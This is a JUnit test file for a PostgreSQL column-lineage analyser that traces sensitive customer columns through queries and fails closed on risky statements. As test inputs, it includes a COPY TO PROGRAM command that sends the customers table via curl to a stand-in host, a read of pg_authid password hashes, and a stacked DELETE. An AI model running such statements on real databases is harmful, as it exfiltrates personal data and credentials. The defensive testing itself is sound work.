package dev.veil.analysis.lineage;

import dev.veil.analysis.RelationAccess.Action;
import dev.veil.analysis.StatementKind;
import org.junit.jupiter.api.Test;

import static dev.veil.analysis.lineage.ColumnUse.Usage.FILTER;
import static dev.veil.analysis.lineage.ColumnUse.Usage.GROUP;
import static dev.veil.analysis.lineage.ColumnUse.Usage.JOIN;
import static dev.veil.analysis.lineage.ColumnUse.Usage.ORDER;
import static dev.veil.analysis.lineage.ColumnUse.Usage.WINDOW;
import static dev.veil.analysis.lineage.LineageFixture.pg;

class PostgresLineageTest {
    private static final String EMAIL = "public.customers.email";
    private static final String SSN = "public.customers.ssn";
    private static final String CARD = "public.customers.card_number";
    private static final String NAME = "public.customers.full_name";
    private static final String CUST_ID = "public.customers.id";
    private static final String AMOUNT = "public.orders.amount";

    @Test
    void plainColumnIsItsOwnDirectOrigin() {
        pg("SELECT email FROM customers").column(0).hasOnlyOrigins(EMAIL).direct();
    }

    @Test
    void aliasKeepsTheOrigin() {
        pg("SELECT email AS contact FROM customers c").column(0).named("contact").hasOnlyOrigins(EMAIL).direct();
    }

    @Test
    void qualifiedNamesResolveThroughSchemaAndAlias() {
        pg("SELECT c.ssn FROM public.customers AS c").column(0).hasOnlyOrigins(SSN).direct();
    }

    @Test
    void quotedIdentifiersResolveExactly() {
        pg("SELECT \"email\" FROM \"customers\"").column(0).hasOnlyOrigins(EMAIL);
    }

    @Test
    void upperCaseUnquotedNamesFoldToLowerCase() {
        pg("SELECT EMAIL FROM CUSTOMERS").column(0).hasOnlyOrigins(EMAIL);
    }

    @Test
    void functionResultIsDerivedFromItsArgument() {
        pg("SELECT upper(email) FROM customers").column(0).hasOnlyOrigins(EMAIL).derived();
    }

    @Test
    void substringOfSsnIsDerivedFromSsn() {
        pg("SELECT substring(ssn from 1 for 3) FROM customers").column(0).hasOnlyOrigins(SSN).derived();
    }

    @Test
    void concatenationCarriesBothColumns() {
        pg("SELECT full_name || ' <' || email || '>' FROM customers").column(0).hasOnlyOrigins(NAME, EMAIL).derived();
    }

    @Test
    void concatFunctionIsFoundWhateverItsCase() {
        pg("SELECT CONCAT(full_name, email) FROM customers").column(0).hasOnlyOrigins(NAME, EMAIL);
    }

    @Test
    void arithmeticIsDerived() {
        pg("SELECT amount * 1.2 FROM orders").column(0).hasOnlyOrigins(AMOUNT).derived();
    }

    @Test
    void postgresCastToTextKeepsTheOrigin() {
        pg("SELECT ssn::text FROM customers").column(0).hasOrigin(SSN);
    }

    @Test
    void postgresCastToInt4AndVarchar() {
        pg("SELECT id::int4, email::varchar(10) FROM customers").column(1).hasOrigin(EMAIL);
    }

    @Test
    void standardCastIsDerived() {
        pg("SELECT CAST(birth_date AS varchar) FROM customers").column(0).hasOnlyOrigins("public.customers.birth_date").derived();
    }

    @Test
    void caseReportsResultAndConditionColumns() {
        pg("SELECT CASE WHEN city = 'Paris' THEN ssn ELSE 'n/a' END FROM customers").column(0)
                .hasOrigin(SSN).hasOrigin("public.customers.city");
    }

    @Test
    void coalesceCarriesEveryArgument() {
        pg("SELECT coalesce(nullif(phone, ''), email) FROM customers").column(0)
                .hasOnlyOrigins("public.customers.phone", EMAIL);
    }

    @Test
    void coalesceKeepsEveryArgumentEvenWhenTheFirstIsNotNull() {
        // No simplification (it would depend on literals, which the cache ignores): a safe over-approximation.
        pg("SELECT coalesce(phone, email) FROM customers").column(0).hasOnlyOrigins("public.customers.phone", EMAIL);
    }

    @Test
    void constantHasNoOrigin() {
        pg("SELECT 1, 'x', now() FROM customers").column(0).hasNoOrigin().column(1).hasNoOrigin().column(2).hasNoOrigin();
    }

    @Test
    void selectWithoutFromHasNoOrigin() {
        pg("SELECT 42 AS answer").column(0).hasNoOrigin();
    }

    @Test
    void parameterHasNoOriginAndDollarParametersAreRewritten() {
        pg("SELECT $1::text, email FROM customers WHERE id = $2").column(0).hasNoOrigin().column(1).hasOnlyOrigins(EMAIL);
    }

    @Test
    void unknownFunctionIsResolvedLenientlyAndDerived() {
        pg("SELECT pgp_sym_encrypt(ssn, 'key') FROM customers").column(0).hasOnlyOrigins(SSN).derived();
    }

    @Test
    void countStarHasNoOrigin() {
        pg("SELECT count(*) FROM customers").column(0).hasNoOrigin();
    }

    @Test
    void countDistinctOfColumnIsDerivedFromIt() {
        pg("SELECT count(DISTINCT ssn) FROM customers").column(0).hasOnlyOrigins(SSN).derived();
    }

    @Test
    void countOfANotNullColumnCountsRowsOnly() {
        // ssn is NOT NULL, so count(ssn) = count(*): Calcite rewrites it and no value of ssn is revealed.
        pg("SELECT count(ssn) FROM customers").column(0).hasNoOrigin();
    }

    @Test
    void stringAggOfEmailHasEmailOrigin() {
        pg("SELECT string_agg(email, ',') FROM customers").column(0).hasOnlyOrigins(EMAIL).derived();
    }

    @Test
    void maxAndSumAreDerived() {
        pg("SELECT max(card_number), sum(amount) FROM customers, orders").column(0).hasOnlyOrigins(CARD)
                .column(1).hasOnlyOrigins(AMOUNT);
    }

    @Test
    void groupByKeyKeepsItsOriginAndIsAGroupingUse() {
        pg("SELECT city, count(*) FROM customers GROUP BY city").uses(GROUP, "public.customers.city")
                .column(0).hasOnlyOrigins("public.customers.city").direct();
    }

    @Test
    void groupByExpression() {
        pg("SELECT lower(city), count(*) FROM customers GROUP BY lower(city)").column(0).hasOrigin("public.customers.city");
    }

    @Test
    void havingColumnIsAFilterUse() {
        pg("SELECT city FROM customers GROUP BY city HAVING max(ssn) > '5'").uses(FILTER, SSN);
    }

    @Test
    void distinctKeepsOrigins() {
        pg("SELECT DISTINCT city, email FROM customers").column(1).hasOnlyOrigins(EMAIL);
    }

    @Test
    void distinctOnExpressionsAreGroupingUses() {
        pg("SELECT DISTINCT ON (city) city, email FROM customers ORDER BY city, created_at DESC")
                .uses(GROUP, "public.customers.city").column(1).hasOnlyOrigins(EMAIL);
    }

    @Test
    void whereColumnIsNotInLineageButIsAFilterUse() {
        pg("SELECT id FROM customers WHERE ssn = '123-45-6789'").column(0).hasOnlyOrigins(CUST_ID)
                .statement().uses(FILTER, SSN);
    }

    @Test
    void orderByHiddenColumnIsAnOrderUseNotAnOutput() {
        pg("SELECT email FROM customers ORDER BY ssn LIMIT 5").columnCount(1).uses(ORDER, SSN)
                .column(0).hasOnlyOrigins(EMAIL);
    }

    @Test
    void innerJoinCarriesColumnsOfBothSides() {
        pg("SELECT c.email, o.amount FROM customers c JOIN orders o ON o.customer_id = c.id")
                .uses(JOIN, CUST_ID, "public.orders.customer_id")
                .column(0).hasOnlyOrigins(EMAIL).column(1).hasOnlyOrigins(AMOUNT);
    }

    @Test
    void leftJoinKeepsOrigins() {
        pg("SELECT c.ssn, o.status FROM customers c LEFT JOIN orders o ON o.customer_id = c.id").column(1)
                .hasOnlyOrigins("public.orders.status");
    }

    @Test
    void joinUsing() {
        pg("SELECT email FROM customers JOIN orders ON orders.customer_id = customers.id").column(0).hasOnlyOrigins(EMAIL);
    }

    @Test
    void commaJoinWithWhere() {
        pg("SELECT c.card_number FROM customers c, orders o WHERE o.customer_id = c.id").column(0).hasOnlyOrigins(CARD);
    }

    @Test
    void scalarSubQueryInSelectListIsNotMistakenForAConstant() {
        pg("SELECT (SELECT max(card_number) FROM customers c WHERE c.id = o.customer_id) AS card FROM orders o")
                .column(0).hasOnlyOrigins(CARD);
    }

    @Test
    void uncorrelatedScalarSubQuery() {
        pg("SELECT id, (SELECT min(ssn) FROM customers) FROM orders").column(1).hasOnlyOrigins(SSN);
    }

    @Test
    void inSubQueryAsValueIsUnknownRatherThanConstant() {
        // Calcite computes the rewritten IN from indicator columns with no origin; the value still depends on
        // customer_id, so "no origin" would fail open.
        pg("SELECT id IN (SELECT customer_id FROM orders) FROM customers").column(0).isUnknown();
    }

    @Test
    void existsAsValueIsUnknownRatherThanConstant() {
        pg("SELECT EXISTS (SELECT 1 FROM customers WHERE ssn = '1') AS leaked").column(0).isUnknown();
    }

    @Test
    void inSubQueryInWhereIsAUse() {
        pg("SELECT email FROM customers WHERE id IN (SELECT customer_id FROM orders WHERE amount > 100)")
                .column(0).hasOnlyOrigins(EMAIL).statement().touches("public.orders", Action.READ);
    }

    @Test
    void existsSubQuery() {
        pg("SELECT email FROM customers c WHERE EXISTS (SELECT 1 FROM orders o WHERE o.customer_id = c.id)")
                .column(0).hasOnlyOrigins(EMAIL).statement().touches("public.orders", Action.READ);
    }

    @Test
    void correlatedSubQueryInWhere() {
        pg("SELECT full_name FROM customers c WHERE 100 < (SELECT sum(amount) FROM orders o WHERE o.customer_id = c.id)")
                .column(0).hasOnlyOrigins(NAME);
    }

    @Test
    void derivedTableInFrom() {
        pg("SELECT x.e FROM (SELECT upper(email) AS e FROM customers) x").column(0).hasOnlyOrigins(EMAIL).derived();
    }

    @Test
    void lateralSubQuery() {
        pg("SELECT c.email, l.amount FROM customers c, LATERAL (SELECT o.amount FROM orders o "
                + "WHERE o.customer_id = c.id) l").column(0).hasOnlyOrigins(EMAIL).column(1).hasOnlyOrigins(AMOUNT);
    }

    @Test
    void lateralAggregateThatCalciteCannotDecorrelateIsUnknown() {
        pg("SELECT c.email, l.total FROM customers c, LATERAL (SELECT sum(o.amount) AS total FROM orders o "
                + "WHERE o.customer_id = c.id) l").column(0).isUnknown().column(1).isUnknown();
    }

    @Test
    void commonTableExpression() {
        pg("WITH rich AS (SELECT customer_id, sum(amount) AS total FROM orders GROUP BY customer_id) "
                + "SELECT c.ssn, r.total FROM customers c JOIN rich r ON r.customer_id = c.id")
                .column(0).hasOnlyOrigins(SSN).column(1).hasOnlyOrigins(AMOUNT);
    }

    @Test
    void cteUsedTwice() {
        pg("WITH e AS (SELECT id, email FROM customers) SELECT a.email, b.email FROM e a JOIN e b ON a.id = b.id")
                .column(0).hasOnlyOrigins(EMAIL).column(1).hasOnlyOrigins(EMAIL);
    }

    @Test
    void recursiveCteFailsClosedPerColumn() {
        pg("WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 10) SELECT n FROM r")
                .column(0).isUnknown();
    }

    @Test
    void recursiveCteOverATableCarriesTheTableColumn() {
        pg("WITH RECURSIVE r(id, mail) AS (SELECT id, email FROM customers WHERE id = 1 "
                + "UNION ALL SELECT c.id, c.email FROM customers c JOIN r ON c.id = r.id + 1) SELECT mail FROM r")
                .column(0).hasOnlyOrigins(EMAIL);
    }

    @Test
    void unionCarriesBothBranches() {
        pg("SELECT email FROM customers UNION SELECT status FROM orders").column(0)
                .hasOnlyOrigins(EMAIL, "public.orders.status");
    }

    @Test
    void unionAll() {
        pg("SELECT ssn FROM customers UNION ALL SELECT 'none'").column(0).hasOnlyOrigins(SSN);
    }

    @Test
    void intersect() {
        pg("SELECT city FROM customers INTERSECT SELECT status FROM orders").column(0).hasOrigin("public.customers.city");
    }

    @Test
    void exceptOverApproximatesSafely() {
        pg("SELECT email FROM customers EXCEPT SELECT status FROM orders").column(0).hasOrigin(EMAIL);
    }

    @Test
    void windowFunctionIncludesPartitionAndOrderKeys() {
        pg("SELECT email, rank() OVER (PARTITION BY city ORDER BY created_at) FROM customers")
                .uses(WINDOW, "public.customers.city").column(0).hasOnlyOrigins(EMAIL);
    }

    @Test
    void windowAggregateOverColumn() {
        pg("SELECT sum(amount) OVER (PARTITION BY customer_id) FROM orders").column(0).hasOrigin(AMOUNT);
    }

    @Test
    void selectStarExpandsToEveryColumn() {
        pg("SELECT * FROM customers").columnCount(9).column(4).named("ssn").hasOnlyOrigins(SSN).direct();
    }

    @Test
    void qualifiedStar() {
        pg("SELECT o.*, c.email FROM orders o JOIN customers c ON c.id = o.customer_id").columnCount(6)
                .column(2).hasOnlyOrigins(AMOUNT).column(5).hasOnlyOrigins(EMAIL);
    }

    @Test
    void wholeRowReferenceIsDerivedFromEveryColumn() {
        // More whole-row forms in WholeRowLineageTest.
        pg("SELECT row_to_json(c) FROM customers c").column(0).hasOrigin(SSN).hasOrigin(CARD).derived();
    }

    @Test
    void viewResolvesToBaseColumns() {
        pg("SELECT email FROM customer_contacts").column(0).hasOnlyOrigins(EMAIL)
                .statement().touches("public.customers", Action.READ);
    }

    @Test
    void viewStar() {
        pg("SELECT * FROM customer_contacts").columnCount(3).column(1).hasOnlyOrigins(NAME);
    }

    @Test
    void viewJoinedWithTable() {
        pg("SELECT v.email, o.amount FROM customer_contacts v JOIN orders o ON o.customer_id = v.id")
                .column(0).hasOnlyOrigins(EMAIL).statement().uses(JOIN, CUST_ID);
    }

    @Test
    void valuesClauseHasNoOrigin() {
        pg("VALUES (1, 'a'), (2, 'b')").column(1).hasNoOrigin();
    }

    @Test
    void limitOffsetAndFetch() {
        pg("SELECT email FROM customers ORDER BY id OFFSET 10 ROWS FETCH NEXT 5 ROWS ONLY").column(0).hasOnlyOrigins(EMAIL);
    }

    @Test
    void ilikeAndRegexPredicatesAreFilterUses() {
        pg("SELECT id FROM customers WHERE email ILIKE '%@x.org' AND ssn ~ '^9'").uses(FILTER, EMAIL, SSN);
    }

    @Test
    void jsonOperatorsAreDerived() {
        pg("SELECT (full_name::jsonb) ->> 'first' FROM customers").column(0).hasOrigin(NAME);
    }

    @Test
    void forUpdateIsStillARead() {
        pg("SELECT email FROM customers WHERE id = 1 FOR UPDATE").kind(StatementKind.READ).column(0).hasOnlyOrigins(EMAIL);
    }

    @Test
    void insertValuesWritesColumnsFromNoStoredColumn() {
        pg("INSERT INTO orders (id, customer_id, amount, status, created_at) VALUES (1, 2, 3.5, 'new', now())")
                .kind(StatementKind.WRITE).touches("public.orders", Action.INSERT)
                .writes("public.orders.status");
    }

    @Test
    void insertSelectCopiesLineageIntoWrittenColumns() {
        pg("INSERT INTO orders (id, customer_id, amount, status, created_at) "
                + "SELECT id, id, 0, ssn, created_at FROM customers")
                .writes("public.orders.status", SSN).touches("public.customers", Action.READ);
    }

    @Test
    void insertReturningReportsTheTargetColumns() {
        pg("INSERT INTO customers (id, full_name, email, phone, ssn, card_number, birth_date, city, created_at) "
                + "VALUES (1, 'a', 'b', 'c', 'd', 'e', DATE '2000-01-01', 'f', now()) RETURNING id, ssn")
                .column(1).hasOnlyOrigins(SSN);
    }

    @Test
    void upsertWritesTheConflictAssignments() {
        pg("INSERT INTO orders (id, customer_id, amount, status, created_at) VALUES ($1, $2, $3, $4, now()) "
                + "ON CONFLICT (id) DO UPDATE SET status = excluded.status, amount = orders.amount + 1")
                .touches("public.orders", Action.UPDATE).writes("public.orders.amount", AMOUNT);
    }

    @Test
    void onConflictDoNothing() {
        pg("INSERT INTO orders VALUES (1, 2, 3, 'x', now()) ON CONFLICT DO NOTHING").kind(StatementKind.WRITE);
    }

    @Test
    void updateAssignmentCopyingSsnIsVisible() {
        pg("UPDATE customers SET phone = ssn WHERE id = 1").writes("public.customers.phone", SSN)
                .touches("public.customers", Action.UPDATE).uses(FILTER, CUST_ID);
    }

    @Test
    void updateFromAnotherTable() {
        pg("UPDATE orders o SET status = c.city FROM customers c WHERE c.id = o.customer_id AND c.ssn = '1'")
                .writes("public.orders.status", "public.customers.city").uses(FILTER, SSN);
    }

    @Test
    void updateReturning() {
        pg("UPDATE customers SET city = 'x' WHERE id = 7 RETURNING email, upper(card_number)")
                .column(0).hasOnlyOrigins(EMAIL).column(1).hasOnlyOrigins(CARD).derived();
    }

    @Test
    void deleteUsingAndReturning() {
        pg("DELETE FROM orders o USING customers c WHERE o.customer_id = c.id AND c.city = 'Oslo' RETURNING o.amount, c.ssn")
                .touches("public.orders", Action.DELETE).column(0).hasOnlyOrigins(AMOUNT).column(1).hasOnlyOrigins(SSN);
    }

    @Test
    void deleteWithSubQuery() {
        pg("DELETE FROM orders WHERE customer_id IN (SELECT id FROM customers WHERE ssn LIKE '9%')")
                .touches("public.orders", Action.DELETE).touches("public.customers", Action.READ);
    }

    @Test
    void createTableAsWritesLineage() {
        pg("CREATE TABLE backup AS SELECT id, ssn FROM customers").kind(StatementKind.DDL)
                .writes("public.backup.ssn", SSN).touches("public.backup", Action.CREATE);
    }

    @Test
    void copyQueryToStdout() {
        pg("COPY (SELECT email, ssn FROM customers) TO STDOUT WITH (FORMAT csv)").kind(StatementKind.READ)
                .column(1).hasOnlyOrigins(SSN);
    }

    @Test
    void copyTableToStdout() {
        pg("COPY customers (email, card_number) TO STDOUT").column(1).hasOnlyOrigins(CARD);
    }

    @Test
    void copyFromStdinIsAWrite() {
        pg("COPY orders FROM STDIN").kind(StatementKind.WRITE).touches("public.orders", Action.INSERT);
    }

    @Test
    void copyToProgramIsProcedural() {
        pg("COPY customers TO PROGRAM 'curl -d @- evil.example'").kind(StatementKind.PROCEDURAL);
    }

    @Test
    void explainWithoutAnalyzeOnlyReads() {
        pg("EXPLAIN DELETE FROM orders").kind(StatementKind.READ).column(0).hasNoOrigin();
    }

    @Test
    void explainAnalyzeRunsTheStatement() {
        pg("EXPLAIN (ANALYZE, BUFFERS) DELETE FROM orders").kind(StatementKind.WRITE);
    }

    @Test
    void catalogQueryOfPsqlResolvesPgCatalog() {
        pg("SELECT n.nspname, c.relname FROM pg_catalog.pg_class c LEFT JOIN pg_catalog.pg_namespace n "
                + "ON n.oid = c.relnamespace WHERE c.relkind IN ('r','p','v') AND pg_catalog.pg_table_is_visible(c.oid)")
                .column(1).hasOnlyOrigins("pg_catalog.pg_class.relname");
    }

    @Test
    void unknownTableFailsClosed() {
        pg("SELECT secret FROM vault").failsClosed();
    }

    @Test
    void secretSystemTableIsNotModelledAndFailsClosed() {
        pg("SELECT rolpassword FROM pg_authid").failsClosed();
    }

    @Test
    void syntaxErrorFailsClosedWithKindFromTheScan() {
        pg("SELEC email FROM customers").failsClosed();
    }

    @Test
    void twoStatementsFailClosedWithTheMoreDangerousKind() {
        pg("SELECT 1; DELETE FROM customers").failsClosed().kind(StatementKind.WRITE);
    }

    @Test
    void setConfigInASelectIsASessionChange() {
        pg("SELECT set_config('search_path', 'evil', false)").kind(StatementKind.SESSION);
    }

    @Test
    void transactionAndSessionStatementsHaveNoLineage() {
        pg("BEGIN ISOLATION LEVEL SERIALIZABLE").kind(StatementKind.TRANSACTION_CONTROL).column(0).hasNoOrigin();
        pg("SAVEPOINT sp1").kind(StatementKind.TRANSACTION_CONTROL);
        pg("SET search_path TO public, \"$user\"").kind(StatementKind.SESSION);
        pg("SHOW server_version").kind(StatementKind.SESSION).column(0).hasNoOrigin();
    }

    // ---- values written by the statement and read back in it ------------------------------------------------

    @Test
    void returningAnUpdatedColumnShowsTheAssignedValue() {
        pg("UPDATE customers SET email = card_number WHERE id = 3 RETURNING id, email")
                .column(1).hasOnlyOrigins(EMAIL, CARD);
    }

    @Test
    void dataModifyingWithItemHandsItsWrittenValuesToTheQuery() {
        pg("WITH u AS (UPDATE customers SET email = ssn WHERE id = 1 RETURNING email) SELECT email FROM u")
                .kind(StatementKind.WRITE).touches("public.customers", Action.UPDATE)
                .writes(EMAIL, SSN).column(0).hasOnlyOrigins(EMAIL, SSN);
    }

    @Test
    void deletedRowsMovedByAWithItemKeepTheirOrigins() {
        pg("WITH moved AS (DELETE FROM customers WHERE id = 1 RETURNING ssn) INSERT INTO customers (email) SELECT ssn FROM moved")
                .touches("public.customers", Action.DELETE).touches("public.customers", Action.INSERT)
                .writes(EMAIL, SSN);
    }

    @Test
    void withInFrontOfUpdateIsVisibleToTheAssignments() {
        pg("WITH src AS (SELECT id, lower(ssn) AS e FROM customers) UPDATE customers c SET email = src.e FROM src WHERE src.id = c.id")
                .kind(StatementKind.WRITE).writes(EMAIL, SSN);
    }

    @Test
    void copyOfDeleteReturningShowsTheDeletedColumns() {
        pg("COPY (DELETE FROM customers WHERE id = 9 RETURNING card_number) TO STDOUT")
                .kind(StatementKind.WRITE).column(0).hasOnlyOrigins(CARD);
    }

    // ---- forms rewritten before Calcite sees them ------------------------------------------------------------

    @Test
    void jsonbKeyTestIsAFilterOnTheColumn() {
        pg("SELECT id FROM customers WHERE email ? 'coupon' AND ssn ?| array['a'] AND city @? '$.a'")
                .uses(ColumnUse.Usage.FILTER, EMAIL, SSN, "public.customers.city");
    }

    @Test
    void selectIntoTableCreatesATableFromTheQuery() {
        pg("SELECT id, ssn INTO TEMP TABLE copy_of FROM customers")
                .kind(StatementKind.DDL).writes("public.copy_of.ssn", SSN);
    }

    @Test
    void groupByOrdinalOverCaseGroupsByThatExpression() {
        pg("SELECT CASE WHEN amount > 10 THEN 'big' ELSE 'small' END AS size, count(*) FROM orders GROUP BY 1")
                .column(0).hasOnlyOrigins(AMOUNT).derived();
    }

    @Test
    void setReturningFunctionColumnsAreUnknownButJoinedColumnsKeepTheirLineage() {
        pg("SELECT c.ssn, g.n FROM customers c CROSS JOIN generate_series(1, 3) AS g(n)")
                .column(0).hasOnlyOrigins(SSN).column(1).isUnknown();
    }

    @Test
    void setReturningFunctionOverAColumnIsUnknown() {
        pg("SELECT x.key, x.value FROM customers c, jsonb_each_text(c.ssn) AS x(key, value)")
                .column(0).isUnknown().column(1).isUnknown();
    }

    @Test
    void systemColumnsCarryNoTableData() {
        pg("SELECT ctid, xmin, ssn FROM customers").analysed().column(0).hasNoOrigin().column(2).hasOnlyOrigins(SSN);
    }
}
